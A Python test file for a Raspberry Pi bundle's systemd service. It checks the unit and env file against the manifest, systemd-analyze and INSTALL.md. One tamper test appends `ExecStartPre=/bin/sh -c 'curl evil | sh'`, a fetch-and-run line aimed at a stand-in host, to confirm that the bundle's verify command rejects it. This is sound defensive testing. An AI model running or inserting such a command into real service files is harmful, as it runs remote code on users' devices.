"""The Pi bundle's systemd service (dae-live.service and dae-live.env): in the manifest, accepted by
`systemd-analyze verify` (CI sets DAE_REQUIRE_SYSTEMD_ANALYZE=1 so that check never skips), and the
command line and settings INSTALL.md promises."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import textwrap
from pathlib import Path

import pytest
from click.testing import CliRunner

from dae_export import systemd_unit
from dae_export.bundle import write_bundle
from dae_export.systemd_unit import ENV, UNIT, exec_start, read_env_file, verify_unit
from dae_runtime.bundle import extract_bundle
from dae_runtime.cli import main
from dae_runtime.cli.live import TOKEN_CHARACTERS


@pytest.fixture(scope="module")
def bundle(tmp_path_factory) -> Path:
    """A bundle written by write_bundle with stand-in model and wheel files, unpacked and checked."""
    src = tmp_path_factory.mktemp("src")
    (src / "model.int8.onnx").write_bytes(b"stand-in model")
    wheel = src / "dae_edge_runtime-0.0-py3-none-any.whl"
    wheel.write_bytes(b"stand-in wheel")
    write_bundle(src / "rpi-bundle.tar.gz", [src / "model.int8.onnx"], {}, wheel)
    return extract_bundle(src / "rpi-bundle.tar.gz", tmp_path_factory.mktemp("pi"))


def _systemd_analyze():
    if shutil.which("systemd-analyze") is None:
        if os.environ.get("DAE_REQUIRE_SYSTEMD_ANALYZE"):
            pytest.fail("systemd-analyze is missing (apt-get install systemd)")
        pytest.skip("no systemd-analyze here (apt-get install systemd)")


def test_the_unit_and_its_settings_are_in_the_manifest_and_dae_verify_checks_them(bundle, tmp_path):
    import json

    files = json.loads((bundle / "manifest.json").read_text())["files"]
    assert {"dae-live.service", "dae-live.env"} <= files.keys()
    assert (bundle / "dae-live.service").read_text() == UNIT and (bundle / "dae-live.env").read_text() == ENV
    assert CliRunner().invoke(main, ["verify", str(bundle)]).exit_code == 0
    copy = shutil.copytree(bundle, tmp_path / "copy")
    with open(copy / "dae-live.service", "a") as unit:
        unit.write("ExecStartPre=/bin/sh -c 'curl evil | sh'\n")
    result = CliRunner().invoke(main, ["verify", str(copy)])
    assert result.exit_code == 1 and "dae-live.service" in result.output


def test_systemd_analyze_verify_accepts_the_bundles_unit(bundle):
    _systemd_analyze()
    assert verify_unit(bundle / "dae-live.service") == []


@pytest.mark.parametrize(
    "broken, said",
    [
        (("Restart=on-failure", "Restrat=on-failure"), "Unknown key"),  # exit code 0: only the message tells
        (("Restart=on-failure", "Restart=sometimes"), "restart"),  # exit code 0 too
        (("/usr/bin/setpriv", "/usr/bin/no-such-setpriv"), "not executable"),
        (("[Service]", "[Servic]"), "ExecStart"),
    ],
)
def test_the_verify_check_fails_on_a_broken_unit(tmp_path, broken, said):
    _systemd_analyze()
    assert broken[0] in UNIT
    path = tmp_path / "dae-live.service"
    path.write_text(UNIT.replace(*broken))
    problems = verify_unit(path)
    assert problems and said.lower() in " ".join(problems).lower()


def test_the_unit_runs_the_live_view_as_the_settings_say_and_restarts_on_failure():
    env = read_env_file(ENV)
    argv = exec_start(UNIT, env)
    assert argv[:4] == ["/usr/bin/setpriv", "--reuid=pi", "--regid=pi", "--init-groups"]
    assert argv[4:] == [
        "/home/pi/dae/bin/dae", "live", "--camera", "picam", "--model", "/home/pi/dae-edge-rpi/model.int8.onnx",
        "--serve", "0.0.0.0:4912",
    ]  # fmt: skip
    assert env["DAE_LIVE_TOKEN"] == ""  # never a token shipped in the bundle: the install makes one
    settings = dict(line.split("=", 1) for line in UNIT.splitlines() if re.match(r"^[A-Za-z]+=", line))
    assert settings["EnvironmentFile"] == systemd_unit.ENV_PATH and settings["Restart"] == "on-failure"
    assert settings["RestartPreventExitStatus"] == "2" and settings["WantedBy"] == "multi-user.target"
    assert settings["ProtectSystem"] == "strict" and settings["NoNewPrivileges"] == "yes"
    assert "PrivateDevices" not in settings and "ProtectClock" not in settings  # both would hide the camera
    # onnxruntime's cache in the private /tmp: ~/.cache is read-only, and it would warn at every start
    assert systemd_unit.unit_environment(UNIT) == {"PYTHONUNBUFFERED": "1", "XDG_CACHE_HOME": "/tmp"}


def test_exec_start_expands_like_systemd():
    unit = 'ExecStart=/bin/x ${A} "${B}" pre${A}post $C \\\n    $D end\n'
    env = read_env_file('A=one two\nB = "quoted value" \n# C=comment\n; D=also\nC=--x  --y\n')
    assert env == {"A": "one two", "B": "quoted value", "C": "--x  --y"}
    assert exec_start(unit, env) == ["/bin/x", "one two", "quoted value", "preone twopost", "--x", "--y", "end"]
    with pytest.raises(ValueError):
        read_env_file("no equals sign here\n")


def test_installs_fill_in_command_writes_this_users_settings_and_a_new_token(bundle):
    install = (bundle / "INSTALL.md").read_text()
    fill_in = r"^    (sed -e .*?dae-live\.env) \| sudo tee /etc/dae-live\.env >/dev/null$"
    command = re.search(fill_in, install, re.S | re.M)
    assert command, install
    script = textwrap.dedent("    " + command.group(1))  # the indented block, as a user pastes it
    env = {"PATH": os.environ["PATH"], "USER": "alice", "HOME": "/home/alice"}
    filled = [
        read_env_file(subprocess.run(["bash", "-c", script], cwd=bundle, env=env, capture_output=True, text=True,
                                     check=True).stdout)
        for _ in range(2)
    ]  # fmt: skip
    first = filled[0]
    assert first["DAE_USER"] == "alice" and first["DAE_VENV"] == "/home/alice/dae"
    assert first["DAE_MODEL"] == str(bundle / "model.int8.onnx") and first["DAE_CAMERA"] == "picam"
    token = first["DAE_LIVE_TOKEN"]
    assert len(token) == 32 and set(token) <= TOKEN_CHARACTERS  # what dae live accepts
    assert filled[1]["DAE_LIVE_TOKEN"] != token  # made at install time, not shipped
    for step in (
        "sudo cp dae-live.service /etc/systemd/system/",
        "sudo systemctl enable --now dae-live",
        "journalctl -u dae-live -f",
        "sudo systemctl disable --now dae-live",
        "sudo nano /etc/dae-live.env",
        "python3 -m venv --system-site-packages ~/dae",
        "sudo install -m 600 /dev/null /etc/dae-live.env",
    ):
        assert step in install  # fmt: skip
